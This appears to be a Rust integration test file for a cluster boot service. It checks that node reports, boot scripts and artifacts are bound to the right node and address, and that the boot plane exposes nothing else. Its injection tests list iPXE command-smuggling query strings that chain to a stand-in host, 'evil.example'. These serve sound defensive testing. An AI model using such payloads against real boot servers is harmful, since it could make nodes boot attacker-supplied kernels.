//! The boot plane: open by necessity, narrow by design. A node's report is accepted only
//! for the node it names with that node's current referral token; the boot plane lists and
//! changes nothing else; no request value reaches a script unvalidated.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};

use crate::bos::{Lab, put_image, quick};
use crate::common::{Server, secure_settings};

async fn boot_patch_from(lab: &Lab, from: [u8; 4], x: &str, body: Value) -> (StatusCode, Value) {
    let r = from_address(from)
        .patch(lab.s.boot_url(&format!("/apis/bos/v2/components/{x}")))
        .json(&body)
        .send()
        .await
        .unwrap();
    let st = r.status();
    (st, r.json().await.unwrap_or(Value::Null))
}

/// A boot-plane client at another loopback address.
fn from_address(ip: [u8; 4]) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(std::net::IpAddr::from(ip))
        .build()
        .unwrap()
}

fn strip(mut c: Value) -> Value {
    c.as_object_mut().unwrap().remove("last_updated");
    c
}

#[tokio::test]
async fn reports_for_another_node_with_a_stale_token_or_from_elsewhere_are_refused_and_change_nothing()
 {
    let settings = rackboot::config::Settings {
        boot_plane_bind: Some(rackboot::config::BootPlaneBind::On),
        ..quick().or(secure_settings())
    };
    let lab = Lab::start_with(2, settings, redfish::sim::SimConfig::default()).await;
    // Both simulated nodes ask from 127.0.0.1: that is their inventory address.
    for i in 0..2 {
        let mac = lab.fleet.bmcs()[i].macs(0)[0]
            .replace(':', "")
            .to_lowercase();
        let (st, v) = lab
            .s
            .send(
                Method::PATCH,
                &format!("/apis/smd/hsm/v2/Inventory/EthernetInterfaces/{mac}"),
                json!({"IPAddresses": [{"IPAddress": "127.0.0.1"}]}),
            )
            .await;
        assert_eq!(st, StatusCode::OK, "{v}");
    }
    let path = put_image(&lab.s, "img");
    lab.template("t", &path, &lab.xnames).await;
    let (a, b) = (lab.xnames[0].clone(), lab.xnames[1].clone());
    // Booted by two sessions, so by two writes with two referral tokens. The nodes report
    // over the boot plane, through the same checks.
    for x in [&a, &b] {
        let status = lab.run("t", "boot", Some(x)).await;
        crate::bos::assert_all_stable(&status);
    }
    let before_a = lab.component(&a).await;
    let before_b = lab.component(&b).await;
    let token_a = before_a["desired_state"]["bss_token"]
        .as_str()
        .unwrap()
        .to_string();
    let token_b = before_b["desired_state"]["bss_token"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(
        !token_a.is_empty() && token_a != token_b,
        "{before_a} {before_b}"
    );
    assert_eq!(
        before_a["actual_state"]["bss_token"],
        token_a.as_str(),
        "A's own report was accepted: {before_a}"
    );

    let here = [127, 0, 0, 1];
    let elsewhere = [127, 0, 0, 2];
    let attempts = [
        (
            here,
            b.clone(),
            json!({"actual_state": {"bss_token": token_a}}),
            "not the node's current referral token",
        ),
        (
            here,
            a.clone(),
            json!({"actual_state": {"bss_token": "stale"}}),
            "not the node's current referral token",
        ),
        (
            here,
            a.clone(),
            json!({"id": b, "actual_state": {"bss_token": token_a}}),
            "names another node",
        ),
        (
            here,
            a.clone(),
            json!({"actual_state": {"bss_token": token_a}, "enabled": false}),
            "may only report its actual_state",
        ),
        (
            here,
            a.clone(),
            json!({"actual_state": {"boot_artifacts": {"kernel": "s3://evil/k"}}}),
            "carries no bss_token",
        ),
        (
            elsewhere,
            a.clone(),
            json!({"actual_state": {"bss_token": token_a}}),
            "bound to its known addresses (127.0.0.1)",
        ),
    ];
    for (from, x, body, why) in attempts {
        let (st, v) = boot_patch_from(&lab, from, &x, body.clone()).await;
        assert_eq!(st, StatusCode::FORBIDDEN, "{x} {body}: {v}");
        assert!(
            v["detail"].as_str().unwrap_or_default().contains(why),
            "{x} {body}: {v}"
        );
    }
    assert_eq!(
        strip(before_a),
        strip(lab.component(&a).await),
        "nothing changed for A"
    );
    assert_eq!(
        strip(before_b),
        strip(lab.component(&b).await),
        "nothing changed for B"
    );

    // A's script and artifacts are A's addresses' only.
    let mac_a = lab.fleet.bmcs()[0].macs(0)[0].clone();
    let script_url = lab.s.boot_url(&format!("/boot/v1/bootscript?mac={mac_a}"));
    let r = from_address(elsewhere)
        .get(&script_url)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = from_address(here).get(&script_url).send().await.unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let script = r.text().await.unwrap();
    let kernel = script
        .split_whitespace()
        .find(|w| w.contains("/artifacts/"))
        .unwrap();
    let kernel = format!(
        "{}{}",
        lab.s.boot_base,
        &kernel[kernel.find("/artifacts/").unwrap()..]
    );
    assert_eq!(
        from_address(elsewhere)
            .get(&kernel)
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        from_address(here)
            .get(&kernel)
            .send()
            .await
            .unwrap()
            .status(),
        StatusCode::OK
    );

    // Anonymous on the control plane: no credentials, no report.
    let r = lab
        .s
        .anonymous()
        .patch(lab.s.url(&format!("/apis/bos/v2/components/{b}")))
        .json(&json!({"actual_state": {"bss_token": token_b}}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);

    // The boot plane lists and changes nothing else.
    let boot = reqwest::Client::new();
    for (m, p) in [
        (Method::GET, "/boot/v1/dumpstate"),
        (Method::GET, "/boot/v1/hosts"),
        (Method::GET, "/boot/v1/endpoint-history"),
        (Method::GET, "/boot/v1/bootparameters"),
        (Method::PUT, "/boot/v1/bootparameters"),
        (Method::GET, "/apis/smd/hsm/v2/State/Components"),
        (Method::GET, "/apis/bos/v2/components"),
        (Method::GET, "/apis/rackboot/v1/users"),
        (
            Method::POST,
            "/keycloak/realms/shasta/protocol/openid-connect/token",
        ),
    ] {
        let st = boot
            .request(m.clone(), lab.s.boot_url(p))
            .send()
            .await
            .unwrap()
            .status();
        assert!(
            st == StatusCode::NOT_FOUND || st == StatusCode::METHOD_NOT_ALLOWED,
            "{m} {p} on the boot plane: {st}"
        );
    }
    lab.s.stop().await;
}

#[tokio::test]
async fn no_request_value_reaches_a_boot_script_unvalidated() {
    let s = Server::start().await;
    s.add_node("x3000c0s0b0n0", 1, "Compute", "02:00:00:00:00:01")
        .await;
    let (st, v) = s
        .send(
            Method::PUT,
            "/boot/v1/bootparameters",
            json!({"hosts": ["x3000c0s0b0n0"], "kernel": "http://h/k", "params": "console=ttyS0"}),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    for q in [
        "name=x9999c0s0b0n0%0Achain%20http://evil.example/pwn",
        "name=x9999c0s0b0n0%0Dchain%20http://evil.example/pwn",
        "name=x3000c0s0b0n0%0Achain%20http://evil.example/pwn",
        "name=Compute%20||%20chain%20http://evil.example/pwn",
        "name=%24%7Bnet0/ip%7D",
        "name=x9999c0s0b0n0&arch=x86_64%0Akernel%20http://evil.example/k",
    ] {
        let (st, _, v) = s
            .call(Method::GET, &format!("/boot/v1/bootscript?{q}"), None)
            .await;
        assert_eq!(st, StatusCode::BAD_REQUEST, "{q}: {v}");
        assert_eq!(v["status"], 400, "a problem, not a script: {q}: {v}");
        assert!(!v.to_string().contains("#!ipxe"), "{q}: {v}");
    }
    // Valid names still work, written back only in their checked form.
    let (st, _, v) = s
        .call(Method::GET, "/boot/v1/bootscript?name=X3000C0S0B0N0", None)
        .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    let (st, _, v) = s
        .call(Method::GET, "/boot/v1/bootscript?name=x9999c0s0b0n0", None)
        .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    let script = v.as_str().unwrap();
    assert!(
        script.contains("?name=x9999c0s0b0n0&arch=${buildarch}"),
        "{script}"
    );
    for line in script.lines() {
        assert!(!line.contains("evil"), "{script}");
    }
    s.stop().await;
}

/// The boot plane over HTTPS (for iPXE built with TLS): the same narrow surface, with an RSA
/// certificate generated at first start.
#[tokio::test]
async fn the_boot_plane_is_also_offered_over_https_with_an_rsa_certificate() {
    let dir = tempfile::tempdir().unwrap();
    let s = Server::start_in(
        dir.path(),
        rackboot::config::Settings {
            boot_https_listen: Some("127.0.0.1:0".into()),
            ..secure_settings()
        },
    )
    .await;
    s.add_node("x3000c0s0b0n0", 1, "Compute", "02:00:00:00:00:01")
        .await;
    let (st, v) = s
        .send(
            Method::PUT,
            "/boot/v1/bootparameters",
            json!({"hosts": ["x3000c0s0b0n0"], "kernel": "http://h/k"}),
        )
        .await;
    assert_eq!(st, StatusCode::OK, "{v}");
    let (addr, pin) = s.boot_https().expect("a boot HTTPS listener");
    assert!(dir.path().join("tls/boot-rsa-cert.pem").exists());
    let http = crate::common::pinned_client(&pin);
    let r = http
        .get(format!(
            "https://{addr}/boot/v1/bootscript?mac=02:00:00:00:00:01"
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert!(r.text().await.unwrap().starts_with("#!ipxe"));
    let r = http
        .get(format!("https://{addr}/apis/smd/hsm/v2/State/Components"))
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::NOT_FOUND,
        "the control plane is not on the boot listener"
    );
    s.stop().await;
}
